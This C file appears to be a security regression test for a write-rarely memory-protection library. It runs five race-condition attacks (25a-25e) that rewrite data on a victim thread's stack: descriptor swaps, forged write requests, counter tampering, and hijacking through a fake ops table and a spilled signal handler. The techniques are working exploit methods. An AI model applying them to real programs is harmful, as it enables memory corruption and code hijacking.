// SPDX-License-Identifier: MIT
/*
 * attack_review3.c - scenarios 25a-25c, from the outside review of the
 * process backend's answer path (branch review3). Each fails when the
 * attack lands (the table says "blocked").
 *
 * 25a: a pool is created while another thread of the program writes (so
 * the process backend's request lock is contended). ctl() builds the
 * SCM_RIGHTS control message of the ADD request, the region's memfd, on
 * its stack before it waits for req_lock. The attacker's thread rewrites
 * the descriptor number there to the core table's vault memfd
 * (rw_table.vault_fd, readable memory). The helper gets the vault, finds
 * it sealed against shrinking and big enough, maps it writable as the new
 * pool, and every later write of the program to that pool lands in the
 * library's table: the pool's head overwrites the table's first 96 bytes
 * (initialised, vault_fd, the default backend's ops pointer, used[]).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "../src/table.h"

#define R3_POOL_MAGIC 0x72617265706f6f6cULL /* pool_layout.h */
#define R3_STACK (256u << 10)

static unsigned char r3_big[65536] __wr_rare __attribute__((aligned(4096)));

static bool r3_is_process(void)
{
	return !strcmp(rare_write_backend(), "process");
}

/* A victim's 300 pool creations stop after this many seconds: under TCG
 * on a loaded machine (check-vm) they outlast the attack child's 60 s
 * alarm (25a and 25b ended with SIGALRM). Fewer tries make a landing less
 * likely, never less real. */
#define R3_VICTIM_S 30

/* ---- 25a ---- */

static struct {
	uint64_t *lo, *hi; /* the victim thread's stack */
	int vault_fd;
	volatile int stop;
	volatile unsigned long stores;
	volatile int landed;
} r3a;

static void *r3a_writer(void *p)
{
	static unsigned char src[sizeof(r3_big)];

	(void)p;
	memset(src, 0x5a, sizeof(src));
	while (!r3a.stop)
		rare_write_memcpy(r3_big, src, sizeof(src));
	return NULL;
}

/* The attacker: rewrite the fd of every SCM_RIGHTS control message it sees
 * on the victim's stack ({cmsg_len 20, SOL_SOCKET, SCM_RIGHTS, fd}). */
__attribute__((no_sanitize_address)) static void *r3a_attacker(void *p)
{
	const uint64_t *table = (const uint64_t *)attack_lib_sym("rw_table");

	(void)p;
	while (!r3a.stop) {
		for (volatile uint64_t *w = r3a.lo; w + 2 < r3a.hi; w++) {
			if (w[0] != 20 || w[1] != 0x0000000100000001ULL)
				continue;
			volatile int32_t *fd = (volatile int32_t *)&w[2];
			int32_t v = *fd;

			if (v >= 0 && v < 4096 && v != r3a.vault_fd) {
				*fd = r3a.vault_fd;
				r3a.stores++;
			}
		}
		if (table && attack_load64(table) == R3_POOL_MAGIC &&
		    !r3a.landed) {
			r3a.landed = 1;
			attack_landed("a pool's head was written into the "
				      "library's region table (its vault)");
		}
	}
	return NULL;
}

static void *r3a_victim(void *p)
{
	const uint64_t *table = (const uint64_t *)attack_lib_sym("rw_table");
	unsigned long *tries = p;

	const time_t end = time(NULL) + R3_VICTIM_S;

	for (unsigned i = 0; i < 300 && !r3a.landed && time(NULL) < end; i++) {
		struct rare_pool *pool = rare_pool_create(4096);

		++*tries;
		if (!pool)
			continue;
		if (attack_load64(table) == R3_POOL_MAGIC) {
			r3a.landed = 1;
			attack_landed("a pool's head was written into the "
				      "library's region table (its vault)");
			break;
		}
		rare_pool_destroy(pool);
	}
	return NULL;
}

ATTACK("25a", review3_add_fd_swap,
       "while another thread writes, rewrite the memfd number in the ADD "
       "request's control message on the stack (built before the request "
       "lock) to the core table's vault memfd, then create a pool")
{
	pthread_t v, w, a;
	pthread_attr_t attr;
	unsigned long tries = 0;
	void *stack;

	if (!r3_is_process())
		attack_report(ATTACK_NA, "no helper");
	if (!attack_lib_sym("rw_table"))
		attack_report(ATTACK_ERROR, "no rw_table symbol");
	r3a.vault_fd =
		((struct rw_table *)attack_lib_sym("rw_table"))->vault_fd;
	stack = mmap(NULL, R3_STACK, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stack == MAP_FAILED)
		attack_report(ATTACK_ERROR, "mmap");
	r3a.lo = stack;
	r3a.hi = (uint64_t *)((char *)stack + R3_STACK);
	pthread_attr_init(&attr);
	pthread_attr_setstack(&attr, stack, R3_STACK);
	attack_begin();
	pthread_create(&w, NULL, r3a_writer, NULL);
	pthread_create(&a, NULL, r3a_attacker, NULL);
	pthread_create(&v, &attr, r3a_victim, &tries);
	pthread_join(v, NULL);
	if (r3a.landed)
		attack_report(ATTACK_OPEN,
			      "a pool's head was written into the library's "
			      "region table (vault fd %d) after %lu pools, %lu "
			      "stores",
			      r3a.vault_fd, tries, r3a.stores);
	r3a.stop = 1;
	pthread_join(w, NULL);
	pthread_join(a, NULL);
	attack_report(ATTACK_BLOCKED, "%lu pools, %lu stores, table intact",
		      tries, r3a.stores);
}

/*
 * 25b: the same lock wait, for a pool's destroy. ctl() builds the DEL
 * request, its iovec and its msghdr on its stack before it waits for
 * req_lock; the attacker points the iovec at a message of its own, a
 * WRITE of the attacker's bytes into the program's __wr_rare section. The
 * helper takes it for the program's (the kernel's credentials are the
 * program's) and applies it: a pool's destroy, which writes nothing,
 * writes the attacker's bytes anywhere in protected memory, and the pool
 * stays registered with the helper.
 */
static uint64_t r3_victim[2] __wr_rare __attribute__((aligned(16)));

static struct {
	uint64_t *lo, *hi;
	volatile int stop;
	volatile unsigned long stores, lens;
	void *req_lock;
	volatile int32_t tid;
	int held;
	struct {
		uint32_t op, nseg;
		uint64_t seq, id, start, len;
		uint32_t cpu, pad;
		uint64_t dst, slen;
		uint32_t flags;
		int32_t fill;
		uint64_t val;
	} fake;
} r3b;

__attribute__((no_sanitize_address)) static void *r3b_attacker(void *p)
{
	(void)p;
	while (!r3b.stop) {
		for (volatile uint64_t *w = r3b.lo; w + 3 < r3b.hi; w++) {
			/* struct iovec {&m, 48} right before m, m.op DEL */
			if (w[0] != (uint64_t)(uintptr_t)&w[2] || w[1] != 48 ||
			    (uint32_t)w[2] != 3)
				continue;
			w[0] = (uint64_t)(uintptr_t)&r3b.fake;
			w[1] = sizeof(r3b.fake);
			r3b.stores++;
			/* transact() keeps the length it expects sendmsg() to
			 * return in its frame (0x8(%rsp), 0x98 below ctl()'s
			 * iovec in this build): once the victim holds req_lock,
			 * keep it the fake's until the slot is reused. */
			volatile uint64_t *len = w - 0x98 / 8;
			volatile int32_t *owner =
				(volatile int32_t *)((char *)r3b.req_lock + 8);

			for (unsigned long n = 0; n < 200000000 && !r3b.stop;
			     n++) {
				if (*owner != r3b.tid) {
					if (r3b.held)
						break;
					continue;
				}
				r3b.held = 1;
				if (*len == 48) {
					*len = sizeof(r3b.fake);
					r3b.lens++;
				}
			}
			r3b.held = 0;
		}
	}
	return NULL;
}

static void *r3b_victim(void *p)
{
	unsigned long *tries = p;

	const time_t end = time(NULL) + R3_VICTIM_S;

	r3b.tid = (int32_t)gettid();
	for (unsigned i = 0; i < 300 && time(NULL) < end; i++) {
		struct rare_pool *pool = rare_pool_create(4096);

		++*tries;
		if (pool)
			rare_pool_destroy(pool);
		if (attack_load64(&r3_victim[1]) == ATTACK_MARKER)
			break;
	}
	return NULL;
}

ATTACK("25b", review3_del_to_write,
       "while another thread writes, point the iovec of a pool's DEL "
       "request (built on the stack before the request lock) at a write "
       "request of the attacker's, then destroy a pool")
{
	pthread_t v, w, a;
	pthread_attr_t attr;
	unsigned long tries = 0;
	void *stack;

	if (!r3_is_process())
		attack_report(ATTACK_NA, "no helper");
	rare_write(r3_victim[0], 1);
	r3b.req_lock = attack_lib_sym("req_lock");
	if (!r3b.req_lock)
		attack_report(ATTACK_ERROR, "no req_lock symbol");
	r3b.fake.op = 1; /* PRW_OP_WRITE */
	r3b.fake.nseg = 1;
	r3b.fake.dst = (uintptr_t)&r3_victim[1];
	r3b.fake.slen = 8;
	r3b.fake.val = ATTACK_MARKER;
	stack = mmap(NULL, R3_STACK, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stack == MAP_FAILED)
		attack_report(ATTACK_ERROR, "mmap");
	r3b.lo = stack;
	r3b.hi = (uint64_t *)((char *)stack + R3_STACK);
	pthread_attr_init(&attr);
	pthread_attr_setstack(&attr, stack, R3_STACK);
	attack_begin();
	r3a.stop = 0;
	pthread_create(&w, NULL, r3a_writer, NULL);
	pthread_create(&a, NULL, r3b_attacker, NULL);
	pthread_create(&v, &attr, r3b_victim, &tries);
	pthread_join(v, NULL);
	if (attack_load64(&r3_victim[1]) == ATTACK_MARKER)
		attack_report(
			ATTACK_OPEN,
			"a pool's destroy wrote the attacker's bytes into "
			"the section (%lu pools, %lu stores, %lu lengths)",
			tries, r3b.stores, r3b.lens);
	r3a.stop = r3b.stop = 1;
	pthread_join(w, NULL);
	pthread_join(a, NULL);
	attack_report(ATTACK_BLOCKED,
		      "%lu pools, %lu stores, %lu lengths, section intact",
		      tries, r3b.stores, r3b.lens);
}

/*
 * 25c: the answer is matched to its request by a count the caller read
 * before sending (transact()'s @before), which await_answer() compares
 * with the answer page on every pass of its wait, from transact()'s stack
 * frame (0x18(%rsp) in this build), not a register. The attacker, who can
 * read the answer page (read-only, not secret), stores count - 1 there
 * while the request is in flight: the caller takes the previous answer
 * for its own and returns before the helper applied its write (and with
 * that answer's error, not its own); from then on every call takes the
 * answer of the call before it (until the helper answers two at once
 * and the next caller aborts: "answered 2 requests"). Lands when a
 * rare_write() returns and the value is not there.
 */
static uint64_t r3_lag __wr_rare __attribute__((aligned(64)));

static struct {
	uint64_t *lo, *hi;
	const volatile uint32_t *count; /* the answer page */
	volatile int stop;
	volatile unsigned long stores;
	volatile uint64_t *slot; /* where @before was found */
} r3c;

static const volatile uint32_t *r3c_answer_page(void)
{
	char line[512];
	FILE *f = fopen("/proc/self/maps", "r");
	unsigned long lo = 0;

	while (f && fgets(line, sizeof(line), f))
		if (strstr(line, "rarewrite-answer")) {
			sscanf(line, "%lx-", &lo);
			break;
		}
	if (f)
		fclose(f);
	return (const volatile uint32_t *)lo;
}

/* transact()'s frame, from its stack pointer: 0x8 the length expected of
 * sendmsg() (80: one 8-byte write), 0x10 the request's address (on the
 * victim's stack; after the send the futex bit), 0x18 @before. */
__attribute__((no_sanitize_address)) static void *r3c_attacker(void *p)
{
	(void)p;
	while (!r3c.stop && !r3c.stores) { /* one store, then watch */
		volatile uint64_t *w = r3c.slot;
		uint32_t c = *r3c.count;

		if (!w) {
			for (w = r3c.lo; w + 3 < r3c.hi; w++)
				if (w[0] == 80 && w[1] >= (uintptr_t)r3c.lo &&
				    w[1] < (uintptr_t)r3c.hi &&
				    (uint32_t)w[2] == c)
					break;
			if (w + 3 >= r3c.hi)
				continue;
		}
		if ((uint32_t)w[2] == c && *r3c.count == c) {
			*(volatile uint32_t *)&w[2] = c - 1;
			r3c.stores++;
		}
	}
	return NULL;
}

#define R3C_HIGH 0x7263000000000000ULL

/* 25c without knowing the frame's layout: every 8-byte word of the
 * caller's stack whose low half is the answer count gets count - 1, for
 * as long as the test runs. Where the count lives in memory across the
 * wait, one of those stores hits it; a count kept in a register is out of
 * reach. */
__attribute__((no_sanitize_address)) static void *r3c_attacker_any(void *p)
{
	(void)p;
	while (!r3c.stop) {
		uint32_t c = *r3c.count;

		for (volatile uint64_t *w = r3c.lo; w < r3c.hi; w++)
			if ((uint32_t)*w == c && *r3c.count == c) {
				*(volatile uint32_t *)w = c - 1;
				r3c.stores++;
			}
	}
	return NULL;
}

ATTACK("25c", review3_answer_count,
       "while a write waits for its answer, store the answer count less "
       "one over the count the caller compares (on its stack): the write "
       "returns before the helper applied it")
{
	pthread_t a;
	unsigned long stale = 0, i;
	time_t end;
	void *stack;

	if (!r3_is_process())
		attack_report(ATTACK_NA, "no helper");
	r3c.count = r3c_answer_page();
	if (!r3c.count)
		attack_report(ATTACK_ERROR,
			      "no answer page in /proc/self/maps");
	/* The victim runs on this thread; the attacker scans its stack
	 * below the caller's frame. */
	{
		pthread_attr_t at;
		size_t size;

		pthread_getattr_np(pthread_self(), &at);
		pthread_attr_getstack(&at, &stack, &size);
		r3c.hi = (uint64_t *)__builtin_frame_address(0);
		r3c.lo = r3c.hi - (64u << 10) / 8;
		if ((uintptr_t)r3c.lo < (uintptr_t)stack)
			r3c.lo = stack;
	}
	attack_begin();
	pthread_create(&a, NULL, r3c_attacker, NULL);
	/* Each phase also stops after 20 s: under QEMU's TCG 200,000 round
	 * trips ran past the child's 60 s alarm (check-vm). */
	end = time(NULL) + 20;
	for (i = 1; i <= 200000 && stale < 100 && time(NULL) < end; i++) {
		rare_write(r3_lag, i);
		if (attack_load64(&r3_lag) != i)
			attack_report(ATTACK_OPEN,
				      "write %lu returned before the helper "
				      "applied it (%#lx there; %lu stores)",
				      i, (unsigned long)attack_load64(&r3_lag),
				      r3c.stores);
	}
	r3c.stop = 1;
	pthread_join(a, NULL);
	if (stale)
		attack_report(ATTACK_OPEN,
			      "%lu of %lu writes returned before the helper "
			      "applied them (%lu stores)",
			      stale, i - 1, r3c.stores);
	/* Then without the frame's layout (r3c_attacker_any). Alone against
	 * the library before the fix (the phase above skipped) it landed in 2
	 * of 4 runs, the others ended in the "answered 2 requests" abort. */
	{
		unsigned long first = r3c.stores, j;

		r3c.stop = 0;
		pthread_create(&a, NULL, r3c_attacker_any, NULL);
		/* Values whose low half (j <= 50000) is below any count now
		 * (> 200000): the attacker's stores never hit the test's own
		 * copies. */
		end = time(NULL) + 20;
		for (j = 1; j <= 50000 && time(NULL) < end; j++) {
			uint64_t v = R3C_HIGH | j;

			rare_write(r3_lag, v);
			if (attack_load64(&r3_lag) != v)
				attack_report(
					ATTACK_OPEN,
					"write %lu returned before the helper "
					"applied it (any-word stores; %#lx "
					"there; %lu stores)",
					j,
					(unsigned long)attack_load64(&r3_lag),
					r3c.stores - first);
		}
		r3c.stop = 1;
		pthread_join(a, NULL);
		attack_report(ATTACK_BLOCKED,
			      "%lu writes, %lu stores, then %lu writes, %lu "
			      "stores over any copy of the count, none stale",
			      i - 1, first, j - 1, r3c.stores - first);
	}
}

/*
 * 25d: 25a carried through to "which code runs". The pool's head, which
 * the swapped pool writes over the table's first 96 bytes, is built on
 * rare_pool_create_with()'s stack before the pool is created: the
 * attacker also stores the address of an ops table of its own into the
 * head's name (offset 8, the table's default backend) on the victim's
 * stack. The next rare_pool_create() on the default backend calls that
 * ops table's setup(): here a function of the test standing for a gadget.
 */
static volatile int r3d_called;

static int r3d_gadget(void)
{
	r3d_called = 1;
	return -ENOTSUP;
}

static struct rw_backend r3d_fake = {.name = "attacker", .setup = r3d_gadget};

__attribute__((no_sanitize_address)) static void *r3d_attacker(void *p)
{
	(void)p;
	while (!r3a.stop) {
		for (volatile uint64_t *w = r3a.lo; w + 6 < r3a.hi; w++) {
			if (w[0] == 20 && w[1] == 0x0000000100000001ULL) {
				volatile int32_t *fd =
					(volatile int32_t *)&w[2];
				int32_t v = *fd;

				if (v >= 0 && v < 4096 && v != r3a.vault_fd) {
					*fd = r3a.vault_fd;
					r3a.stores++;
				}
			}
			/* struct rare_pool head: magic, name[32], nr_pages */
			if (w[0] == R3_POOL_MAGIC && w[5] == 1 && w[1] == 0)
				w[1] = (uint64_t)(uintptr_t)&r3d_fake;
		}
	}
	return NULL;
}

static void *r3d_victim(void *p)
{
	const uint64_t *table = (const uint64_t *)attack_lib_sym("rw_table");
	unsigned long *tries = p;
	const time_t end = time(NULL) + R3_VICTIM_S;

	for (unsigned i = 0; i < 300 && time(NULL) < end; i++) {
		struct rare_pool *pool = rare_pool_create(4096);

		++*tries;
		if (!pool)
			continue;
		if (attack_load64(table) == R3_POOL_MAGIC) {
			r3a.landed = 1;
			/* The program goes on: its next pool. */
			pool = rare_pool_create(4096);
			if (r3d_called)
				attack_report(ATTACK_OPEN,
					      "rare_pool_create() called the "
					      "attacker's function (%lu pools, "
					      "%lu stores)",
					      *tries, r3a.stores);
			attack_report(ATTACK_OPEN,
				      "the table was overwritten, but the "
				      "attacker's function did not run (%p)",
				      (void *)pool);
		}
		rare_pool_destroy(pool);
	}
	return NULL;
}

ATTACK("25d", review3_add_fd_swap_call,
       "25a, and the pool's head on the stack made to hold an ops table of "
       "the attacker's, so that the next pool calls the attacker's function")
{
	pthread_t v, w, a;
	pthread_attr_t attr;
	unsigned long tries = 0;
	void *stack;

	if (!r3_is_process())
		attack_report(ATTACK_NA, "no helper");
	r3a.vault_fd =
		((struct rw_table *)attack_lib_sym("rw_table"))->vault_fd;
	stack = mmap(NULL, R3_STACK, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stack == MAP_FAILED)
		attack_report(ATTACK_ERROR, "mmap");
	r3a.lo = stack;
	r3a.hi = (uint64_t *)((char *)stack + R3_STACK);
	pthread_attr_init(&attr);
	pthread_attr_setstack(&attr, stack, R3_STACK);
	attack_begin();
	pthread_create(&w, NULL, r3a_writer, NULL);
	pthread_create(&a, NULL, r3d_attacker, NULL);
	pthread_create(&v, &attr, r3d_victim, &tries);
	pthread_join(v, NULL);
	r3a.stop = 1;
	pthread_join(w, NULL);
	pthread_join(a, NULL);
	attack_report(ATTACK_BLOCKED, "%lu pools, %lu stores, table intact",
		      tries, r3a.stores);
}

/*
 * 25e: which code a signal runs, from a register spilled across a lock
 * wait and system calls. call_program() (src/signal.c) loads the
 * program's action from the signal table's vault, keeps the handler's
 * address in a callee-saved register (%r15 in this build), and for a
 * one-shot action (SA_RESETHAND) first takes signal_lock and rewrites the
 * vault (sv_store(): fstat, fcntl, a read of /proc/self/maps, pwrite)
 * before it jumps to the handler. Every function it calls in between
 * that uses the register saves it in its own frame: the attacker rewrites
 * every word equal to the program's handler on the signalled thread's
 * stack to a function of its own (standing for a gadget), which the
 * library then runs as the handler. A control round first, with a handler
 * that is not one-shot (no lock, no system call before the call), must
 * hold as well.
 */
static volatile int r3e_gadget_ran, r3e_handler_ran;

static void r3e_handler(int sig, siginfo_t *si, void *uc)
{
	(void)sig;
	(void)si;
	(void)uc;
	r3e_handler_ran++;
}

static void r3e_gadget(int sig, siginfo_t *si, void *uc)
{
	(void)sig;
	(void)si;
	(void)uc;
	r3e_gadget_ran++;
}

static struct {
	uint64_t *lo, *hi;
	volatile int stop;
	volatile unsigned long stores;
} r3e;

__attribute__((no_sanitize_address)) static void *r3e_attacker(void *p)
{
	(void)p;
	while (!r3e.stop)
		for (volatile uint64_t *w = r3e.lo; w < r3e.hi; w++)
			if (*w == (uint64_t)(uintptr_t)r3e_handler) {
				*w = (uint64_t)(uintptr_t)r3e_gadget;
				r3e.stores++;
			}
	return NULL;
}

/* The signalled thread: the program's handler is installed by another
 * thread (main), so no frame of this thread but the library's signal path
 * ever holds its address. */
static volatile int r3e_armed, r3e_done;

static void *r3e_victim(void *p)
{
	unsigned long *tries = p;

	while (!r3e.stop) {
		if (!__atomic_load_n(&r3e_armed, __ATOMIC_ACQUIRE)) {
			sched_yield(); /* 2 cores, 3 threads: let main arm */
			continue;
		}
		r3e_armed = 0;
		++*tries;
		raise(SIGSEGV);
		__atomic_store_n(&r3e_done, 1, __ATOMIC_RELEASE);
	}
	return NULL;
}

ATTACK("25e", review3_resethand_handler,
       "while a one-shot (SA_RESETHAND) handler is being reset, rewrite "
       "the program's handler address wherever it is spilled on the "
       "signalled thread's stack")
{
	pthread_t v, a;
	pthread_attr_t attr;
	unsigned long tries = 0, control_tries = 0, control_stores = 0;
	void *stack;

	stack = mmap(NULL, R3_STACK, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stack == MAP_FAILED)
		attack_report(ATTACK_ERROR, "mmap");
	r3e.lo = stack;
	r3e.hi = (uint64_t *)((char *)stack + R3_STACK);
	pthread_attr_init(&attr);
	pthread_attr_setstack(&attr, stack, R3_STACK);
	attack_begin();
	pthread_create(&a, NULL, r3e_attacker, NULL);
	pthread_create(&v, &attr, r3e_victim, &tries);
	/* Round 0 the control (a handler kept), round 1 the one-shot. */
	for (unsigned round = 0; round < 2 && !r3e_gadget_ran; round++) {
		int flags = SA_SIGINFO | (round ? SA_RESETHAND : 0);

		if (round) {
			control_tries = tries;
			control_stores = r3e.stores;
		}
		/* 2,000 signals, or 12 s on a loaded machine (the child's
		 * alarm ends it at 60 s: 25e once ran past it under ASan). */
		time_t end = time(NULL) + (time_t)attack_budget(12);

		for (unsigned i = 0;
		     i < 2000 && !r3e_gadget_ran && time(NULL) < end; i++) {
			struct sigaction sa = {.sa_sigaction = r3e_handler,
					       .sa_flags = flags};

			sigemptyset(&sa.sa_mask);
			sigaction(SIGSEGV, &sa, NULL);
			r3e_done = 0;
			__atomic_store_n(&r3e_armed, 1, __ATOMIC_RELEASE);
			while (!__atomic_load_n(&r3e_done, __ATOMIC_ACQUIRE))
				sched_yield();
		}
	}
	r3e.stop = 1;
	pthread_join(v, NULL);
	pthread_join(a, NULL);
	if (r3e_gadget_ran && !control_tries)
		attack_report(
			ATTACK_OPEN,
			"the library ran the attacker's function as the "
			"SIGSEGV handler in the control (no one-shot: %lu "
			"signals, %lu stores)",
			tries, r3e.stores);
	if (r3e_gadget_ran)
		attack_report(ATTACK_OPEN,
			      "the library ran the attacker's function as the "
			      "one-shot SIGSEGV handler (control held: %lu "
			      "signals, %lu stores; one-shot: %lu signals, %lu "
			      "stores)",
			      control_tries, control_stores,
			      tries - control_tries,
			      r3e.stores - control_stores);
	attack_report(ATTACK_BLOCKED,
		      "control: %lu signals, %lu stores; one-shot: %lu "
		      "signals, %lu stores; the program's handler ran %d "
		      "times",
		      control_tries, control_stores, tries - control_tries,
		      r3e.stores - control_stores, r3e_handler_ran);
}
